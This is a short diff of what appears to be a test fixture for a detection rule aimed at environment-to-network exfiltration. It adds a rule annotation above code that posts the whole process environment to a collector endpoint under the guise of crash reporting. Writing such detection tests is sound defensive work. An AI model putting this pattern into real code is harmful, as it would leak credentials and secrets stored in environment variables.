@@ -19,6 +19,7 @@ def announce():
 def report_crash(error):
     # ruleid: exfiltration/environment-to-network
     body = urllib.request.Request(COLLECTOR, data=json.dumps({"error": str(error), "env": environ.copy()}).encode())
+    # ruleid: exfiltration/environment-to-network
     urllib.request.urlopen(body)
 
 
